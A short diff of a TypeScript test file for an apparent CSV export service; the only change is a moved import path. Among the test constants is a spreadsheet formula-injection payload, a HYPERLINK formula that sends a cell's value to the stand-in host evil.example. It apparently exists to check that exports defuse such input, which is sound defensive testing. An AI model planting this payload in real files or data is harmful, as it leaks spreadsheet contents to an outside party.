@@ -18,7 +18,7 @@ import { parseCsv } from '@gh/testkit/csv';
 import { addApplication, addPerson, bearer, db, newEmail, personDoc, seniorForm, volunteerForm } from '@gh/testkit/identity';
 import { tokenFor } from '@gh/testkit/members';
 import { EXPORT_PAGE_SIZE } from '../src/services/export.ts';
-import { newSenior, newVolunteer } from '../src/services/people.ts';
+import { newSenior, newVolunteer } from '../src/services/people/people.ts';
 
 const HINDI_NAME = 'कमला देवी शर्मा';
 const FORMULA_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")';
